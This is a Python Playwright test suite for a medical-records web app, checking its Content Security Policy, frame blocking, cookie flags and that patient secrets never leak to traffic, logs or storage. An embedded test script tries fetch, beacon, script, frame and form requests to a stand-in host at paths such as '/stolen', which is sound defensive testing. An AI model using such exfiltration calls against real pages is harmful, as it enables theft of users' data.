"""Pages are bound by their policy, ask nobody else, and let nothing out: no plaintext, no key, no words."""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from playwright.sync_api import Page, expect

from app.core.vault import own_wallet_key, vault_from_phrase
from scripts.browser import go
from scripts.joining import PASSPHRASE, SLOW, address_of, join, practitioner, sign_in
from scripts.site import Site, running_site
from tests.browser import steps
from tests.browser.conftest import MakeProfile
from tests.browser.leaks import Traffic, files_below, find

NOTE = "Carries the gene of a rare illness nobody here has heard of"
TITLE = "Result of the genetic counselling"
REASON = "Before we choose the narcotic for Monday's operation"
DIAGNOSIS = "Malignant hyperthermia is to be feared"
NAME = "Ada Wilhelmina Lindqvist"
SIGN_IN_NAME = "ada-of-the-strict-tests"
FILE_PASSPHRASE = "another passphrase for the wallet's file"
FOREIGN = "http://foreign.invalid"
TRIES = """
const said = {};
document.addEventListener("securitypolicyviolation", (event) => {
  (said.violations ??= []).push(`${event.effectiveDirective} ${event.blockedURI}`);
});
const foreign = "%s";
const made = (name, set) => new Promise((done) => {
  const element = document.createElement(name);
  element.onload = () => done("it loaded");
  element.onerror = () => done("refused");
  set(element);
  document.body.append(element);
});
const tried = async (work) => {
  try {
    return `it answered ${await work()}`;
  } catch (error) {
    return error.name;
  }
};
const begin = async () => {
  const inline = document.createElement("script");
  inline.textContent = "document.documentElement.dataset.inline = 'it ran'";
  document.body.append(inline);
  said.inline = document.documentElement.dataset.inline ?? "refused";
  const button = document.createElement("button");
  button.setAttribute("onclick", "document.documentElement.dataset.handler = 'it ran'");
  document.body.append(button);
  button.click();
  said.handler = document.documentElement.dataset.handler ?? "refused";
  const painted = document.createElement("p");
  painted.setAttribute("style", "color: rgb(1, 2, 3)");
  document.body.append(painted);
  said.style = getComputedStyle(painted).color === "rgb(1, 2, 3)" ? "it took" : "refused";
  said.eval = await tried(() => (0, eval)("1 + 1"));
  said.Function = await tried(() => new Function("return 2")());
  said.blobScript = await tried(() => import(URL.createObjectURL(new Blob([""], { type: "text/javascript" }))));
  said.fetch = await tried(() => fetch(`${foreign}/stolen`));
  said.beacon = navigator.sendBeacon(`${foreign}/beacon`, "words") ? "sent or refused" : "refused";
  said.image = await made("img", (image) => { image.src = `${foreign}/pixel.png`; });
  said.script = await made("script", (script) => { script.src = `${foreign}/script.js`; });
  said.frame = await new Promise((done) => {
    document.addEventListener("securitypolicyviolation", (event) => {
      if (event.effectiveDirective === "frame-src") done("refused");
    });
    const frame = document.createElement("iframe");
    frame.src = `${foreign}/frame`;
    document.body.append(frame);
  });
  said.form = await new Promise((done) => {
    document.addEventListener("securitypolicyviolation", (event) => {
      if (event.effectiveDirective === "form-action") done("refused");
    });
    const form = document.createElement("form");
    form.action = `${foreign}/form`;
    form.method = "post";
    document.body.append(form);
    form.submit();
  });
  console.log(`said ${JSON.stringify(said)}`);
};
begin();
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A node of their own, which keeps nothing but what comes of this scenario."""
    with running_site(tmp_path_factory.mktemp("site")) as running:
        yield running


def test_a_page_script_that_tries_is_refused(make_profile: MakeProfile) -> None:
    page = make_profile(expects_faults=True, path="/robots.txt")
    left = Traffic()
    # what page.evaluate runs is not bound by the policy; the page's own script is
    page.context.route(
        "**/static/main-*.js",
        lambda route: route.fulfill(content_type="text/javascript", body=TRIES % FOREIGN),
    )
    page.context.on(
        "response", lambda response: left.requests.append(("GET", response.url, b"answered"))
    )
    with page.expect_console_message(lambda message: message.text.startswith("said ")) as told:
        page.goto("/", wait_until="commit")
    said = json.loads(told.value.text.removeprefix("said "))
    violations = said.pop("violations")
    assert said == {
        "inline": "refused", "handler": "refused", "style": "refused", "eval": "EvalError",
        "Function": "EvalError", "blobScript": "TypeError", "fetch": "TypeError",
        "beacon": said["beacon"], "image": "refused", "script": "refused", "frame": "refused",
        "form": "refused",
    }  # fmt: skip
    refused = {violation.split()[0] for violation in violations}
    assert refused >= {
        "script-src-elem", "script-src-attr", "style-src-attr", "script-src", "connect-src",
        "img-src", "frame-src", "form-action",
    }  # fmt: skip
    assert {f"connect-src {FOREIGN}/stolen", f"connect-src {FOREIGN}/beacon"} <= set(violations)
    assert FOREIGN not in left.origins


@pytest.fixture
def framing(site: Site) -> Iterator[str]:
    """Another site, which shows the node's page in a frame."""

    class Framing(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            content = f'<iframe src="{site.url}/app/unlock"></iframe>'.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_request(self, *_: object) -> None:
            """Write no line."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Framing) as server:
        thread = Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        yield f"http://localhost:{server.server_port}/"
        server.shutdown()
        thread.join()


def test_no_other_site_may_show_it_in_a_frame(make_profile: MakeProfile, framing: str) -> None:
    page = make_profile(expects_faults=True)
    refusals: list[str] = []
    page.on("console", lambda message: refusals.append(message.text))
    page.goto(framing)
    frame = page.frames[1]
    expect(frame.get_by_role("heading", name="Sign in")).to_have_count(0)
    assert any("frame-ancestors 'none'" in refusal for refusal in refusals), refusals


@dataclass(frozen=True, slots=True, kw_only=True)
class Told:
    """What came of one whole scenario: what left the browsers, what was logged, and what is secret."""

    traffic: Traffic
    log: str
    secrets: dict[str, bytes]
    patient: Page


class Kept(logging.Handler):
    """Keeps every line that anything in this process logs."""

    def __init__(self) -> None:
        super().__init__()
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(f"{record.getMessage()} {record.__dict__}")


@pytest.fixture(scope="module")
def told(share_profile: MakeProfile, site: Site) -> Told:
    """Joining, writing, asking, allowing, opening, adding, looking, exporting, taking back, once."""
    kept, root = Kept(), logging.getLogger()
    level = root.level
    root.addHandler(kept)
    root.setLevel(logging.INFO)  # as a node logs
    traffic = Traffic()
    patient, doctor = share_profile(path="/robots.txt"), share_profile(path="/robots.txt")
    for page in (patient, doctor):
        traffic.listen(page.context)
    words = join(patient, NAME, patient=True, sign_in_name=SIGN_IN_NAME)
    colleague = practitioner(site, "Dr. Bea Quist")
    sign_in(doctor, colleague)
    scenario(patient, doctor, site)
    root.removeHandler(kept)
    root.setLevel(level)
    secrets = {
        "the note": NOTE, "the title": TITLE, "the reason": REASON, "the diagnosis": DIAGNOSIS,
        "the name": NAME, "the passphrase": PASSPHRASE, "the file's passphrase": FILE_PASSPHRASE,
    }  # fmt: skip
    return Told(
        traffic=traffic,
        log="\n".join(kept.lines),
        secrets={
            **{name: secret.encode() for name, secret in secrets.items()},
            **keys_of("patient", words),
            **keys_of("doctor", colleague.vault.phrase.split()),
        },
        patient=patient,
    )


def keys_of(whose: str, words: list[str]) -> dict[str, bytes]:
    """All from which somebody could act or read as that person."""
    vault = vault_from_phrase(" ".join(words))
    return {
        f"the {whose}'s seed": vault.seed,
        f"the {whose}'s wallet": own_wallet_key(vault.seed),
        **{
            f"the {whose}'s words from {at + 1}": " ".join(words[at : at + 3]).encode()
            for at in range(22)
        },
        **{
            f"the {whose}'s words from {at + 1} in JSON": json.dumps(
                words[at : at + 3], separators=(",", ":")
            )[1:-1].encode()
            for at in range(22)
        },
    }


def scenario(patient: Page, doctor: Page, site: Site) -> None:
    """What two people do with each other, with everything that is nobody else's business."""
    steps.write_note(patient, TITLE, NOTE, category="genetics")
    whose = address_of(patient)
    go(doctor, f"/app/ask#?patient={whose}")
    expect(doctor.get_by_text("Choose someone else")).to_be_visible()
    doctor.get_by_role("checkbox", name="Genetics").check()
    doctor.get_by_role("radio", name="See and add records").check()
    doctor.get_by_label("Your reason").fill(REASON)
    doctor.get_by_role("button", name="Ask", exact=True).click()
    expect(doctor.get_by_role("region", name="What you asked for")).to_contain_text(
        REASON, timeout=SLOW
    )
    steps.turn_to(patient, "Requests")
    patient.get_by_role("button", name="Read it, then allow it").click(timeout=SLOW)
    patient.get_by_role("dialog").get_by_role("button", name="Yes, sign it").click()
    expect(patient.get_by_text("There is nothing to answer.")).to_be_visible(timeout=SLOW)
    site.settle()

    steps.turn_to(doctor, "Shared with me")
    doctor.get_by_role("link", name="Open the chart").click(timeout=SLOW)
    steps.open_record(doctor, TITLE)
    doctor.get_by_role("link", name="Add a record").click()
    doctor.get_by_label("Diagnosis").fill(DIAGNOSIS)
    doctor.get_by_role("radio", name="All of it under one").check()
    doctor.get_by_label("Heading").select_option("genetics")
    doctor.get_by_role("button", name="Sign and add the record").click()
    expect(doctor.get_by_role("button", name=f"Open {DIAGNOSIS}")).to_be_visible(timeout=SLOW)

    steps.turn_to(patient, "Who looked")
    patient.get_by_role("button", name="Check it").first.click(timeout=SLOW)
    steps.turn_to(patient, "My chart")
    patient.get_by_role("link", name=TITLE).click()
    expect(patient.get_by_text(NOTE)).to_be_visible()
    steps.turn_to(patient, "Account")
    patient.get_by_text("Take my wallet with me").click()
    patient.get_by_label("Passphrase for the file").fill(FILE_PASSPHRASE)
    with patient.expect_download(timeout=SLOW) as download:
        patient.get_by_role("button", name="Save the file").click()
    assert json.loads(download.value.path().read_text())["version"] == 3
    steps.turn_to(patient, "Permissions")
    steps.take_back(patient, "Genetics")
    steps.sign_out(doctor)
    site.settle()


def test_nobody_but_the_node_and_its_custodians_is_asked(told: Told, site: Site) -> None:
    allowed = {site.url, *site.services.custodians}
    assert site.url in told.traffic.origins
    assert len(told.traffic.origins) > 1, "custodians were asked"
    assert told.traffic.origins <= allowed


def test_nothing_that_a_browser_sent_holds_a_secret(told: Told) -> None:
    statements = list(told.traffic.bodies("POST", "/api/statements"))
    assert any(b'"primaryType":"Grant"' in body for body in statements), "bodies were listened to"
    assert find(told.secrets, told.traffic.places()) == []


def test_no_address_names_a_record_or_a_person_to_the_node(told: Told) -> None:
    pages = [url for _, url, _ in told.traffic.requests if "/app/" in url.split("#")[0]]
    assert pages
    assert [url for url in pages if "0x" in url.split("#")[0]] == []


def test_nothing_that_the_node_and_its_custodians_keep_holds_a_secret(
    told: Told, site: Site
) -> None:
    files = files_below(site.folder)
    assert any(b"primaryType" in content for content in files.values()), "statements were found"
    assert SIGN_IN_NAME.encode() in b"".join(files.values()), "so would a name be"
    assert find(told.secrets, files) == []


def test_no_log_line_holds_a_secret_or_tells_who_did_what(told: Told) -> None:
    assert told.log
    own = {**told.secrets, "the patient's address": address_of(told.patient).lower().encode()}
    assert find(own, {"the log": told.log.lower().encode()}) == []
    assert find(told.secrets, {"the log": told.log.encode()}) == []


def test_no_script_can_read_or_send_the_sessions_cookie(told: Told, site: Site) -> None:
    [cookie] = [
        one for one in told.patient.context.cookies() if one.get("name", "").startswith("__Host-")
    ]
    assert (cookie["httpOnly"], cookie["secure"], cookie["sameSite"], cookie["path"]) == (
        True,
        True,
        "Strict",
        "/",
    )
    assert not cookie["domain"].startswith(".")
    assert cookie["value"] not in told.patient.evaluate("() => document.cookie")
